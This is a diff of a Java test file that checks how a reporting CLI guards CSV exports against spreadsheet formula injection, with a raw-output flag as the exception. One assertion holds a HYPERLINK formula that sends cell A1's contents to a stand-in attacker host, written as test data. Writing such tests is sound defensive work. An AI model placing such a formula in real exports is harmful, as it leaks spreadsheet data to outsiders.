@@ -8,7 +8,6 @@ import com.keepwise.reports.testing.DatasetFiles;
 import de.siegmar.fastcsv.reader.CsvReader;
 import de.siegmar.fastcsv.reader.CsvRecord;
 import java.io.IOException;
-import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import org.junit.jupiter.api.Test;
@@ -51,7 +50,9 @@ class FormulaInjectionTest {
     assertEquals("Plain - Name = fine", rows.get(5).getField(1));
     for (CsvRecord row : rows.subList(1, rows.size())) {
       for (int column : new int[] {4, 5}) {
-        assertTrue(row.getField(column).matches("\\d+\\.\\d"), "scores stay numbers: " + row.getField(column));
+        assertTrue(
+            row.getField(column).matches("\\d+\\.\\d"),
+            "scores stay numbers: " + row.getField(column));
       }
     }
   }
@@ -59,7 +60,8 @@ class FormulaInjectionTest {
   @Test
   void theRawFlagWritesTheValuesAsTheyAre() throws IOException {
     Path out = temp.resolve("decisions.csv");
-    CliRun run = CliRun.of("score", "--data", dataset().toString(), "--out", out.toString(), "--raw-csv");
+    CliRun run =
+        CliRun.of("score", "--data", dataset().toString(), "--out", out.toString(), "--raw-csv");
     assertEquals(ExitCodes.SUCCESS, run.exit(), run.err());
     List<CsvRecord> rows = rows(out);
     assertEquals("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", rows.get(1).getField(1));
